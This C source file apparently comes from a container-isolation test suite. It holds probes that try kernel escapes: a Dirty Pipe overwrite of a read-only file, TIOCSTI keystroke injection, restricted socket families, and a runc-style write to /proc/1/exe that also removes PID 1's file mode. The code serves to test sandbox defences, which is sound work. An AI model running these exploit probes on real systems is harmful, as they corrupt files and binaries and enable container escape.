/* Attacks on the kernel's own interfaces that a container can call. */
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "attacker.h"

/* pipe FILE: writes over the first bytes of a file that it may only read, through a pipe's page (CVE-2022-0847): every
 * page of a pipe is made mergeable, the file's page is spliced in, and what is written next would be merged into it. */
int pipe_main(int argc, char **argv) {
  static char page[4096];
  int ends[2];
  if (argc != 2 || pipe(ends) < 0) return 2;
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = size; left > 0;) {
    ssize_t n = write(ends[1], page, (size_t)(left < 4096 ? left : 4096));
    if (n <= 0) return 2;
    left -= (int)n;
  }
  for (int left = size; left > 0;) {
    ssize_t n = read(ends[0], page, (size_t)(left < 4096 ? left : 4096));
    if (n <= 0) return 2;
    left -= (int)n;
  }
  int fd = open(argv[1], O_RDONLY);
  if (fd < 0) return 2;
  loff_t offset = 0;
  if (splice(fd, &offset, ends[1], NULL, 1, 0) != 1) return 2;
  if (write(ends[1], "DIRTY", 5) != 5) return 2;
  char text[6] = "";
  if (pread(fd, text, 5, 1) < 0) return 2;
  printf("it says %s\n", strcmp(text, "DIRTY") == 0 ? "DIRTY" : "nothing of ours");
  return strcmp(text, "DIRTY") == 0 ? ESCAPED : 0;
}

/* read FILE: whether it can be read, as whoever this program's file makes it. */
int read_main(int argc, char **argv) {
  if (argc != 2) return 2;
  int fd = open(argv[1], O_RDONLY);
  puts(fd >= 0 ? "read" : errno == EACCES ? "EACCES" : "another error");
  return fd >= 0 ? ESCAPED : 0;
}

/* terminal: what somebody's terminal would have been made to type (CVE-2017-5226). */
int terminal_main(int argc, char **argv) {
  (void)argc;
  (void)argv;
  int result = 0;
  for (int fd = -1; fd < 3; fd++) {
    int at = fd < 0 ? open("/dev/tty", O_RDWR | O_NOCTTY) : fd;
    if (at >= 0 && ioctl(at, TIOCSTI, "x") == 0) {
      printf("typed into %d\n", fd);
      result = ESCAPED;
    }
  }
  if (open("/dev/tty", O_RDWR | O_NOCTTY) >= 0) {
    puts("has a terminal");
    result = ESCAPED;
  }
  /* A session of another than ourselves may be one with a terminal. In a PID namespace of ours 0 is one outside. */
  if (getsid(0) != getpid() && getsid(0) != getppid()) {
    printf("session %d, process %d\n", getsid(0), getpid());
    result = ESCAPED;
  }
  return result;
}

/* sockets: which of the families that are closed can be opened (CVE-2026-31431), with and without rubbish above 32 bits. */
int sockets_main(int argc, char **argv) {
  (void)argc;
  (void)argv;
  static const struct {
    const char *name;
    long family;
  } families[] = {{"AF_ALG", 38}, {"AF_VSOCK", 40}, {"AF_ALG above", 38L | 1L << 32}, {"AF_VSOCK above", 40L | 1L << 32}};
  for (size_t i = 0; i < sizeof families / sizeof families[0]; i++) {
    long fd = syscall(SYS_socket, families[i].family, SOCK_SEQPACKET, 0);
    if (fd < 0 && errno == ESOCKTNOSUPPORT) fd = syscall(SYS_socket, families[i].family, SOCK_STREAM, 0);
    printf("%s %s\n", families[i].name, fd >= 0 ? "opened" : errno == EPERM ? "EPERM" : "not there");
  }
  return 0;
}

/* image: writes into the program of PID 1, and takes away its mode: neither needs more than a descriptor (CVE-2019-5736). */
int image_main(int argc, char **argv) {
  (void)argc;
  (void)argv;
  int fd = open("/proc/1/exe", O_RDONLY);
  if (fd < 0) return 2;
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int writable = open(path, O_WRONLY);
  if (writable >= 0 && write(writable, "\x7f", 1) == 1) puts("written");
  if (fchmod(fd, 0) == 0) puts("mode changed");
  return 0;
}
